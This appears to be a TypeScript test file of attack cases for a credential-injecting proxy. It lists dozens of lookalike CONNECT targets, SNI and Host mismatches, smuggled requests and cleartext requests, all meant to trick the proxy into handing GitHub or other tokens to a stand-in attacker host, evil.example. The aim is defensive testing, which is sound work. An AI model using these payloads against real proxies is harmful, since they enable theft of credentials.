import type { AttackCase } from "./attack_case.ts";
import { get } from "./probe.ts";
import { tunnelled, unTunnelled } from "./steer_world.ts";

const rule = "api.github.com";

/** CONNECT targets that look like a rule's host to somebody, each with what it plays on. */
const lookalikes: readonly (readonly [trick: string, target: string])[] = [
  ["another port", "api.github.com:444"],
  ["the port of http", "api.github.com:80"],
  ["a port with a leading zero", "api.github.com:0443"],
  ["a port with a sign", "api.github.com:+443"],
  ["a port that wraps round to 443", "api.github.com:65979"],
  ["a negative port", "api.github.com:-65093"],
  ["a port in hexadecimal", "api.github.com:0x1bb"],
  ["two ports", "api.github.com:443:443"],
  ["a second port behind the first", "api.github.com:443:444"],
  ["no port", "api.github.com"],
  ["an empty port", "api.github.com:"],
  ["the attacker's domain behind the name", "api.github.com.evil.example:443"],
  ["a letter before the name", "xapi.github.com:443"],
  ["a label before the name", "x.api.github.com:443"],
  ["a name that ends alike", "evilgithub.com:443"],
  ["a dash for a dot", "api-github.com:443"],
  ["userinfo that reads as the name", "api.github.com@evil.example:443"],
  ["userinfo and a port that read as the name", "api.github.com:443@evil.example:443"],
  ["userinfo before the name", "evil.example@api.github.com:444"],
  ["a fragment", "evil.example#api.github.com:443"],
  ["a path", "evil.example/api.github.com:443"],
  ["a query", "evil.example?api.github.com:443"],
  ["a backslash", "evil.example\\api.github.com:443"],
  ["a NUL", "api.github.com\0.evil.example:443"],
  ["a percent-encoded NUL", "api.github.com%00.evil.example:443"],
  ["a percent-encoded dot", "api%2egithub.com:444"],
  ["a percent-encoded slash", "evil.example%2f.api.github.com:443"],
  ["a comma", "evil.example,api.github.com:443"],
  ["a full-width letter", "\xef\xbd\x81pi.github.com:443"],
  ["an ideographic full stop", "api\xe3\x80\x82github.com:444"],
  ["a Cyrillic letter", "\xd0\xb0pi.github.com:443"],
  ["a soft hyphen", "a\xc2\xadpi.github.com:443"],
  ["punycode that looks alike", "xn--pi-7ka.github.com:443"],
  ["a name in brackets", "[api.github.com]:443"],
  ["a zone", "[2001:db8::9%api.github.com]:443"],
  ["two dots at the end", "api.github.com..:443"],
  ["an empty label", "api..github.com:443"],
  ["an empty host", ":443"],
  ["a scheme", "https://api.github.com:444"],
  ["two slashes", "//api.github.com:443"],
  ["a star for the host", "*:443"],
];

const corpLookalikes: readonly (readonly [trick: string, target: string])[] = [
  ["the domain itself", "corp.test:8443"],
  ["a name that ends alike", "evilcorp.test:8443"],
  ["the attacker's domain behind it", "a.corp.test.evil.example:8443"],
  ["another port", "a.corp.test:443"],
  ["an empty first label", ".corp.test:8443"],
  ["the pattern itself", "*.corp.test:8443"],
  ["an empty label inside", "a..corp.test:8443"],
  ["a slash in a label", "evil.example/.corp.test:8443"],
];

function hostPart(target: string): string {
  return target.replace(/:[^:\]]*$/, "");
}

/** The target's own name in SNI, if there can be such a one. */
function serverName(target: string): string {
  const name = hostPart(target);
  return /^[\w-]+(\.[\w-]+)+$/.test(name) ? name : "evil.example";
}

function connectHead(target: string, host: string): string {
  return `CONNECT ${target} HTTP/1.1\r\nHost: ${host}\r\n\r\n`;
}

/** CONNECT, SNI and what is inside, each naming what suits the attacker. */
export const targetCases: readonly AttackCase[] = [
  ...lookalikes.flatMap(([trick, connect]) => [
    tunnelled(`GitHub's token for a CONNECT target with ${trick}`, {
      connect,
      sni: serverName(connect),
      request: get(hostPart(connect)),
    }),
    tunnelled(`GitHub's token for a CONNECT target with ${trick}, GitHub's name in SNI and Host`, {
      connect,
      sni: rule,
      request: get(rule),
    }),
  ]),
  ...corpLookalikes.map(([trick, connect]) =>
    tunnelled(`the key of *.corp.test for ${trick}`, {
      connect,
      sni: serverName(connect),
      request: get(hostPart(connect)),
    })
  ),
  tunnelled("GitHub's token at a host of its own, by GitHub's name in SNI", {
    connect: "evil.example:443",
    sni: rule,
    request: get("evil.example"),
  }),
  tunnelled("GitHub's token at a host of its own, by GitHub's name in Host", {
    connect: "evil.example:443",
    request: get(rule),
  }),
  tunnelled("GitHub's token at a host of its own, by its own name in SNI alone", {
    connect: "api.github.com:443",
    sni: "evil.example",
    request: get("api.github.com"),
  }),
  tunnelled("GitHub's token at a host of its own, by its own name in SNI and Host", {
    connect: "api.github.com:443",
    sni: "evil.example",
    request: get("evil.example"),
  }),
  tunnelled("Claude's key at GitHub, by Claude's name in SNI", {
    connect: "api.github.com:443",
    sni: "api.anthropic.com",
    request: get("api.github.com"),
  }),
  tunnelled("GitHub's token at Claude, by GitHub's name in SNI and Host", {
    connect: "api.anthropic.com:443",
    sni: rule,
    request: get(rule),
  }),
  tunnelled("GitHub's token at an address of its own, by GitHub's name in SNI", {
    connect: "198.51.100.9:443",
    sni: rule,
    request: get(rule),
  }),
  tunnelled("GitHub's token at an IPv6 address of its own, by GitHub's name in SNI", {
    connect: "[2001:db8::9]:443",
    sni: rule,
    request: get(rule),
  }),
  tunnelled("GitHub's token at another port of an address, by GitHub's name in SNI", {
    connect: "198.51.100.9:444",
    sni: rule,
    request: get(rule),
  }),
  tunnelled("GitHub's token at an address of its own, by the address in Host", {
    connect: "198.51.100.9:443",
    sni: rule,
    request: get("198.51.100.9"),
  }),
  tunnelled("GitHub's token at an address of its own, by GitHub's name in Host alone", {
    connect: "198.51.100.9:443",
    sni: "198.51.100.9",
    request: get(rule),
  }),
  tunnelled("GitHub's token in a tunnel without SNI, for another Host", {
    connect: "api.github.com:443",
    sni: "198.51.100.9",
    request: get("evil.example"),
  }),
  tunnelled("GitHub's token for a CONNECT whose Host is its own host", {
    connect: connectHead("api.github.com:443", "evil.example:443"),
    sni: rule,
    request: get(rule),
  }),
  tunnelled("GitHub's token for a CONNECT to its own host whose Host is GitHub's", {
    connect: connectHead("evil.example:443", "api.github.com:443"),
    sni: rule,
    request: get(rule),
  }),
  tunnelled("GitHub's token for a CONNECT with two Hosts", {
    connect: connectHead("api.github.com:443", "api.github.com:443\r\nHost: evil.example:443"),
    sni: rule,
    request: get(rule),
  }),
  tunnelled("a request behind CONNECT to be taken for one inside the tunnel", {
    connect: connectHead("api.github.com:443", "api.github.com:443") + get("evil.example"),
    sni: rule,
    request: get(rule),
  }),
  tunnelled("a CONNECT with a body, whose end is disputed", {
    connect: connectHead("evil.example:443", "evil.example:443\r\nContent-Length: 5") + "hello",
    sni: rule,
    request: get(rule),
  }),
  tunnelled("GitHub's token over a tunnel without TLS", {
    connect: "api.github.com:443",
    clear: true,
    request: get(rule),
  }),
  tunnelled("GitHub's token over a tunnel without TLS, to a port of its own", {
    connect: "api.github.com:80",
    clear: true,
    request: get(rule),
  }),
  ...[
    "http://api.github.com/",
    "http://api.github.com:443/",
    "http://api.github.com:8080/",
    "http://API.GITHUB.COM./",
    "http://github.com/",
    "http://a.corp.test:8443/",
    "http://a.corp.test:8080/",
    "https://api.github.com/",
    "ws://api.github.com/",
    "http://evil@api.github.com/",
    "http://api.github.com@evil.example/",
    "http://evil.example\\@api.github.com/",
    "HTTP://Api.GitHub.com/",
    "http:api.github.com/",
    "http:///api.github.com/",
    "//api.github.com/",
  ].map((target) =>
    unTunnelled(
      `a token in clear for ${target}`,
      `GET ${target} HTTP/1.1\r\nHost: ${
        /^\w*:?\/\/([^/]+)/.exec(target)?.[1] ?? rule
      }\r\nConnection: close\r\n\r\n`,
    )
  ),
  unTunnelled(
    "a token in clear for its own host, by GitHub's name in Host",
    `GET http://evil.example/ HTTP/1.1\r\nHost: api.github.com\r\nConnection: close\r\n\r\n`,
  ),
  unTunnelled(
    "a token in clear for GitHub's name in the target, by its own in Host",
    `GET http://api.github.com/ HTTP/1.1\r\nHost: evil.example\r\nConnection: close\r\n\r\n`,
  ),
];
